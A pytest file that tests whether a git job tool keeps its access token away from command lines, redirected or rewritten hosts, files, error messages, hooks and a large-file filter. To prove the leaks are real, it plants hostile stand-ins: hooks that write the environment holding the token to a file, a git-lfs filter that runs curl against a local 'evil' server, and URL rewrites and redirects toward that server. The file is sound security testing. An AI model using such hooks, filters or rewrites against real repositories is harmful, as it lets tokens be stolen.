"""Where the token of a fetch or push goes: to its host, and into no address, argument, file or other server."""

from __future__ import annotations

import base64
import contextlib
import os
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import gitrepo
import pytest

from jobs.repo.git import GitError, Remote, git, init_bare
from jobs.repo.mirror import Mirror
from jobs.repo.workspace import Author, Workspace

TOKEN = "ghs_" + "canary0123456789" * 4
BASIC = base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()


@dataclass
class Seen:
    """What a server was sent, and what every process of this machine was called with at that moment."""

    headers: list[str] = field(default_factory=list)
    arguments: list[str] = field(default_factory=list)
    paths: list[str] = field(default_factory=list)


@contextlib.contextmanager
def server(redirect: str = "") -> Iterator[tuple[str, Seen]]:
    """A listener that notes what it is asked; paths below /redir lead to `redirect`. Its address, and its notes."""
    seen = Seen()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.headers.append(self.headers.get("Authorization", ""))
            seen.paths.append(self.path)
            seen.arguments.append(_command_lines())
            self.send_response(302 if redirect and self.path.startswith("/redir") else 404)
            self.send_header("Location", f"{redirect}{self.path}")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=http.serve_forever, args=(0.05,))
    thread.start()
    try:
        yield f"http://127.0.0.1:{http.server_address[1]}", seen
    finally:
        http.shutdown()
        http.server_close()
        thread.join()


def _command_lines() -> str:
    found = []
    for entry in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            found.append(entry.read_bytes().replace(b"\0", b" ").decode("utf-8", "replace"))
    return "\n".join(found)


def naive(git_dir: Path, *args: str) -> None:
    """git as many scripts call it: the header is on the command line, and for every host."""
    header = f"http.extraHeader=Authorization: Basic {BASIC}"
    command = ["git", "-c", header, "-c", "http.followRedirects=true", *args]
    subprocess.run(command, env={**os.environ, "GIT_DIR": str(git_dir)}, capture_output=True, check=False)


@pytest.fixture
def ours(tmp_path: Path) -> Path:
    init_bare(tmp_path / "job.git")
    return tmp_path / "job.git"


@pytest.mark.threat(26)
def test_no_command_line_shows_the_token(ours: Path) -> None:
    with server() as (address, seen):
        naive(ours, "ls-remote", f"{address}/a/b.git")
        assert any(BASIC in text for text in seen.arguments)
        seen.arguments.clear()
        with pytest.raises(GitError):
            git(ours, "ls-remote", f"{address}/a/b.git", remote=Remote(f"{address}/a/b.git", TOKEN))
    assert seen.headers[-1] == f"Basic {BASIC}"
    assert "ls-remote" in seen.arguments[-1]
    assert not [text for text in seen.arguments if BASIC in text or TOKEN in text]


@pytest.mark.threat(27)
def test_an_address_that_is_turned_elsewhere_takes_no_token_along(ours: Path) -> None:
    with server() as (github, _), server() as (evil, seen):
        git(ours, "config", f"url.{evil}/.insteadOf", f"{github}/")
        naive(ours, "ls-remote", f"{github}/a/b.git")
        assert f"Basic {BASIC}" in seen.headers
        seen.headers.clear()
        with pytest.raises(GitError):
            git(ours, "ls-remote", f"{github}/a/b.git", remote=Remote(f"{github}/a/b.git", TOKEN))
        assert set(seen.headers) == {""}


@pytest.mark.threat(27)
def test_a_redirect_is_not_followed(ours: Path) -> None:
    with server() as (evil, seen), server(evil) as (github, asked):
        naive(ours, "ls-remote", f"{github}/redir/b.git")
        assert seen.paths
        seen.paths.clear()
        with pytest.raises(GitError, match="error: 302"):
            git(ours, "ls-remote", f"{github}/redir/b.git", remote=Remote(f"{github}/redir/b.git", TOKEN))
        assert asked.headers[-1] == f"Basic {BASIC}"
        assert seen.paths == []


@pytest.mark.threat(26, 29)
def test_no_file_and_no_message_of_ours_keeps_the_token(ours: Path, tmp_path: Path) -> None:
    with server() as (address, _):
        remote = Remote(f"{address}/a/b.git", TOKEN)
        with pytest.raises(Exception, match=r"git|repository") as failed:
            Mirror(tmp_path / "mirrors", 7).fetch(remote, "a" * 40)
        with pytest.raises(GitError) as pushed:
            git(ours, "push", remote.url, "HEAD:refs/heads/agent/x", remote=remote)
    for told in (failed, pushed):
        chain = f"{told.value!r} {told.value.__cause__!r} {told.value.__context__!r}"
        assert not {part for part in (TOKEN, BASIC) if part in chain}
    kept = "\n".join(path.read_text(errors="replace") for path in tmp_path.rglob("*") if path.is_file())
    assert "[core]" in kept
    assert not {part for part in (TOKEN, BASIC, address) if part in kept}


@pytest.mark.threat(26, 51)
def test_no_hook_runs_while_the_token_is_there(tmp_path: Path, marker: Path) -> None:
    """T9: a hook inherits the environment that holds the token."""
    repo = gitrepo.make(tmp_path / "repo", {"a": "1"})
    workspace = Workspace(tmp_path / "run", repo / ".git/objects", gitrepo.run(repo, "rev-parse", "HEAD"))
    target = tmp_path / "target.git"
    init_bare(target)
    hooks = workspace.git_dir / "hooks"
    hooks.mkdir()
    for name in ("pre-push", "reference-transaction", "post-checkout", "post-index-change"):
        (hooks / name).write_text(f"#!/bin/sh\nenv > {marker}\n")
        (hooks / name).chmod(0o755)
    commit = workspace.commit(workspace.base, "x", Author("A", "a@example.invalid"))
    push = ("push", "--quiet", f"file://{target}")
    environment = {**os.environ, "GIT_DIR": str(workspace.git_dir), "SECRET": TOKEN}
    subprocess.run(["git", *push, f"{commit}:refs/heads/naive"], env=environment, check=True)
    assert TOKEN in marker.read_text()
    marker.unlink()
    remote = Remote(f"file://{target}", TOKEN)
    git(workspace.git_dir, *push, f"{commit}:refs/heads/agent/x", remote=remote)
    assert git(target, "rev-parse", "refs/heads/agent/x").decode().strip() == commit
    assert not marker.exists()


@pytest.mark.threat(54)
def test_a_large_files_pointer_stays_one_and_nobody_is_asked(tmp_path: Path, own_home: Path, marker: Path) -> None:
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'a' * 64}\nsize 12\n"
    with server() as (evil, seen):
        files = {"big.bin": pointer, ".gitattributes": "*.bin filter=lfs diff=lfs merge=lfs -text\n"}
        repo = gitrepo.make(tmp_path / "repo", {**files, ".lfsconfig": f"[lfs]\n\turl = {evil}/\n"})
        ask = f"curl -s {evil}/objects/batch; touch {marker}; cat"
        (own_home / ".gitconfig").write_text(f'[filter "lfs"]\n\tsmudge = "{ask}"\n\tclean = "{ask}"\n')
        (repo / "big.bin").unlink()
        gitrepo.run(repo, "checkout", "--", "big.bin")
        assert marker.exists(), "nothing is asked for a person either: it shows nothing"
        assert seen.paths == ["/objects/batch"]
        marker.unlink()
        workspace = Workspace(tmp_path / "run", repo / ".git/objects", gitrepo.run(repo, "rev-parse", "HEAD"))
        with workspace.checkout(workspace.base) as folder:
            assert (folder / "big.bin").read_text() == pointer
            assert workspace.harvest(folder, None).tree == workspace.base
        assert not marker.exists()
        assert seen.paths == ["/objects/batch"]
